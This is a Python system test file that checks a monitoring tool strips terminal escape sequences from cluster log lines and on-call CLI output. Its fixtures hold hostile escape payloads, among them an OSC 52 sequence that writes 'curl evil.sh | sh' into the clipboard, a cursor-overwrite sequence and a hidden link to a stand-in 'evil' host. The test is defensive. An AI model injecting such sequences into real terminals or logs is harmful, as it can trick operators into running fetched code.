"""Issue 32, finding 3: text from the cluster never drives the on-call's terminal. A log line carrying OSC 52
(write the clipboard), OSC 0 (window title), DCS and cursor moves, followed by a real agent process, is stored
without them; `specwatch incidents` and `specwatch status` (real processes, real HTTP) print an incident whose
labels hold them as plain words."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from tests.support.harness import ROOT, ServerProcess, agent_token, cli, upgrade_db, wait_for
from tests.system.test_security_agent_logs import _line, _logs_with
from tests.system.test_web_data import _open_incident

HOST = "gpu-node-23"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" into the clipboard
TITLE = "\x1b]0;root@prod\x1b\\"  # OSC 0 ended by ST
DCS = "\x1bP$q m\x1b\\"  # DCS: asks the terminal to answer
CURSOR = "\x1b[2K\x1b[1A"  # erase the line, go up: overwrite what was printed before
C1 = "\x9d8;;http://evil\x9c"  # OSC 8 (a hidden link) in its 8-bit form
ESCAPES = ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\x90")


def test_escape_sequences_in_log_lines_are_not_stored(tmp_path: Path) -> None:
    db_url = f"sqlite:///{tmp_path / 'specwatch.db'}"
    upgrade_db(db_url)
    server = ServerProcess(db_url).start()
    log = tmp_path / "TP0.log"
    log.write_text(
        _line("TP0", f"Load weight begin. {CLIPBOARD}avail mem=137.20 GB{TITLE}")
        + f"plain {DCS}words{C1} stay{CURSOR} readable\n"
        + _line("TP0", "\x1b[32mInit torch distributed begin.\x1b[0m last-line")
    )
    agent = subprocess.Popen(
        [sys.executable, "-m", "app", "agent", "--server", server.base_url, "--host", HOST, "--deployment", "d",
         "--log", str(log), "--sources", "logs", "--interval", "0.2", "--batch-interval", "0.5",
         "--spool", str(tmp_path / "spool"), "--duration", "60"],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "SPECWATCH_TOKEN": agent_token(db_url, HOST)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        stored = wait_for("the last line", lambda: _logs_with(server.base_url, "last-line"))
    finally:
        agent.terminate()
        agent.wait(timeout=30)
        server.stop()
    # the API's JSON writes a control character as \u001b (or as itself): neither may be there
    for c in ESCAPES:
        assert c not in stored and f"\\u{ord(c):04x}" not in stored.lower(), f"{c!r} stored: {stored}"
    assert "Load weight begin. avail mem=137.20 GB" in stored and "plain words stay readable" in stored


def test_the_oncall_commands_print_labels_as_words(tmp_path: Path) -> None:
    db_url = f"sqlite:///{tmp_path / 'specwatch.db'}"
    upgrade_db(db_url)
    _open_incident(
        db_url,
        culprit=f"TP3{TITLE}",
        ranks=[f"TP3{TITLE}", f"TP4{C1}"],
        summary=f"no progress for 95 s{CLIPBOARD}; TP3 idle{CURSOR}\r while 7 ranks spin{DCS}",
    )
    server = ServerProcess(db_url).start()
    try:
        env = {"SPECWATCH_URL": server.base_url}
        for command in (("incidents",), ("status",), ("incidents", "--open")):
            r = cli(*command, env=env, check=False)
            assert r.returncode in (0, 1), r.stderr
            for c in ESCAPES:
                assert c not in r.stdout, f"specwatch {' '.join(command)} printed {c!r}: {r.stdout!r}"
            assert "culprit TP3 on" in r.stdout, r.stdout
            assert "no progress for 95 s; TP3 idle while 7 ranks spin" in r.stdout, r.stdout
    finally:
        server.stop()
